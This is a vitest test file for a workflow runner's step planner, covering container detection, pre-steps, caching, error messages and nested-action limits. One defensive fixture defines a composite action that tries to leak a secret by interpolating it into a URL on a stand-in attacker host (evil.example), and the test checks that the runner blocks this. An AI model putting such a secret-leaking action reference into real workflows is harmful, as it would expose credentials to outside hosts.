import { expect, it } from 'vitest';
import type { Scope } from '../expressions/scope.ts';
import type { Value } from '../expressions/values.ts';
import type { RemoteAction } from '../steps/actions/action-source.ts';
import { UserError } from '../user-error.ts';
import { parseAction } from '../workflow/parse-action.ts';
import { parseWorkflow } from '../workflow/parse-workflow.ts';
import type { Step } from '../workflow/model.ts';
import { type ActionAccess, type ActionSource, JobActions } from './job-actions.ts';
import { planSteps } from './plan-steps.ts';

const never = new AbortController().signal;

/** Definitions of actions by what uses them. */
type Definitions = Readonly<Record<string, string>>;

interface Source extends ActionSource {
  readonly asked: { readonly uses: string; readonly access: ActionAccess }[];
}

function sourceOf(definitions: Definitions): Source {
  const asked: Source['asked'] = [];
  return {
    asked,
    find: async (uses, at, access) => {
      asked.push({ uses, access });
      const runs = definitions[uses];
      if (runs === undefined)
        throw new UserError('FRR602', { problems: [{ at, message: `expected ${uses}, found none` }], next: 'look' });
      // Planning reads the definition alone.
      return { uses, action: parseAction(`runs: ${runs}`, `${uses}/action.yml`) } as RemoteAction;
    },
  };
}

function steps(...uses: readonly string[]): readonly Step[] {
  const list = uses.map((one) => `{ uses: "${one}" }`).join(', ');
  const workflow = parseWorkflow(`on: push\njobs: { one: { runs-on: here, steps: [${list}] } }`, 'w.yml');
  return workflow.jobs.get('one')?.steps ?? [];
}

async function plan(
  uses: readonly string[],
  definitions: Definitions = {},
  github: Readonly<Record<string, string>> = {},
) {
  const contexts = new Map<string, Value>([
    ['github', new Map()],
    ['secrets', new Map([['KEY', 'hunter2']])],
    ['matrix', new Map([['version', 'v2']])],
  ]);
  const scope: Scope = { contexts, functions: new Map() };
  const source = sourceOf(definitions);
  const actions = new JobActions(source, new Map(Object.entries(github)));
  const list = steps(...uses);
  const planned = await planSteps(list, scope, actions, never);
  return { ...planned, pre: list.filter((step) => planned.pre.has(step)).map(({ index }) => index), source, actions };
}

it.each([
  [[], 'none'],
  [['a/node@v1'], 'none'],
  [['./local'], 'unknown'],
  [['docker://alpine'], 'run'],
  [['a/image@v1'], 'run'],
  [['a/file@v1', 'docker://alpine', './local'], 'build'],
  [['a/outer@v1'], 'build'],
  [['a/with-local@v1'], 'unknown'],
  [['${{ env.LATER }}'], 'unknown'],
])('knows what %j needs before anything starts', async (uses, expected) => {
  const definitions = {
    'a/node@v1': '{ using: node20, main: x.js }',
    'a/image@v1': '{ using: docker, image: "docker://alpine" }',
    'a/file@v1': '{ using: docker, image: Dockerfile }',
    'a/outer@v1': '{ using: composite, steps: [{ uses: a/middle@v1 }] }',
    'a/middle@v1': '{ using: composite, steps: [{ uses: a/file@v1 }] }',
    'a/with-local@v1': '{ using: composite, steps: [{ uses: ./x }] }',
  };
  expect((await plan(uses, definitions)).stepContainers).toBe(expected);
});

it('names each step that needs a container, and what in it does', async () => {
  const { containerUses } = await plan(['./local', 'a/outer@v1', 'docker://alpine:3'], {
    'a/file@v1': '{ using: docker, image: Dockerfile }',
    'a/outer@v1': '{ using: composite, steps: [{ uses: a/file@v1 }, { uses: "docker://b" }] }',
  });
  expect(containerUses).toEqual([
    { step: 2, uses: ['a/outer@v1', 'a/file@v1'], needs: 'build' },
    { step: 2, uses: ['a/outer@v1', 'docker://b'], needs: 'run' },
    { step: 3, uses: ['docker://alpine:3'], needs: 'run' },
  ]);
});

it('finds the steps that do something before the first one', async () => {
  const { pre } = await plan(['a/none@v1', 'a/pre@v1', 'a/around@v1', 'a/docker@v1'], {
    'a/none@v1': '{ using: node20, main: x.js, post: x.js }',
    'a/pre@v1': '{ using: node20, main: x.js, pre: x.js }',
    'a/around@v1': '{ using: composite, steps: [{ uses: a/pre@v1 }] }',
    'a/docker@v1': '{ using: docker, image: "docker://x", pre-entrypoint: x }',
  });
  expect(pre).toEqual([1, 2, 3]);
});

it('looks up each name once, for the whole job', async () => {
  const { source, actions } = await plan(['a/b@${{ matrix.version }}', 'a/b@v2'], {
    'a/b@v2': '{ using: node20, main: x }',
  });
  await actions.find('a/b@v2', { file: 'w', line: 1, column: 1 }, never);
  expect(source.asked.map(({ uses }) => uses)).toEqual(['a/b@v2']);
  expect((await actions.list()).map(({ uses }) => uses)).toEqual(['a/b@v2']);
});

it('says what is wrong with all actions at once', async () => {
  await expect(plan(['a/x@v1', './here', 'a/y@v1'])).rejects.toThrow(
    /:2:47: expected a\/x@v1, found none\nw.yml:2:87: expected a\/y@v1, found none$/,
  );
});

it.each([
  ['itself', { 'a/b@v1': '{ using: composite, steps: [{ uses: a/b@v1 }] }' }, '"a/b@v1" using "a/b@v1"'],
  [
    'itself through another one',
    {
      'a/b@v1': '{ using: composite, steps: [{ uses: a/c@v1 }] }',
      'a/c@v1': '{ using: composite, steps: [{ uses: a/b@v1 }] }',
    },
    '"a/b@v1" using "a/c@v1" using "a/b@v1"',
  ],
  [
    'too many others',
    Object.fromEntries(
      Array.from({ length: 12 }, (_, n) => [
        n === 0 ? 'a/b@v1' : `a/b${n}@v1`,
        `{ using: composite, steps: [{ uses: a/b${n + 1}@v1 }] }`,
      ]),
    ),
    'expected at most 10 actions inside of each other',
  ],
])('refuses an action that uses %s', async (_what, definitions, message) => {
  await expect(plan(['a/b@v1'], definitions)).rejects.toThrow(message);
});

it('hands secrets to the steps of the job only, and never to what an action uses', async () => {
  const { source } = await plan(['a/${{ secrets.KEY }}@v1', 'a/out@v1'], {
    'a/hunter2@v1': '{ using: node20, main: x }',
    'a/out@v1': '{ using: composite, steps: [{ uses: "https://evil.example/a/${{ secrets.KEY }}@v1" }] }',
  });
  expect(source.asked.map(({ uses }) => uses).toSorted()).toEqual(['a/hunter2@v1', 'a/out@v1']);
});

it('tells the source what the task says about servers and token', async () => {
  const definitions = { 'a/b@v1': '{ using: node20, main: x }' };
  const github = { gitea_default_actions_url: 'https://code.example', server_url: 'https://own.example', token: 't' };
  expect((await plan(['a/b@v1'], definitions, github)).source.asked[0]?.access).toEqual({
    defaultUrl: 'https://code.example',
    serverUrl: 'https://own.example',
    token: 't',
  });
  expect((await plan(['a/b@v1'], definitions)).source.asked[0]?.access).toEqual({});
});

it('asks again for what failed once', async () => {
  let fails = true;
  const actions = new JobActions(
    {
      find: async (uses) => {
        if (fails) throw new Error('away');
        return { uses } as RemoteAction;
      },
    },
    new Map(),
  );
  const at = { file: 'w', line: 1, column: 1 };
  await expect(actions.find('a/b@v1', at, never)).rejects.toThrow('away');
  fails = false;
  expect(await actions.find('a/b@v1', at, never)).toEqual({ uses: 'a/b@v1' });
});
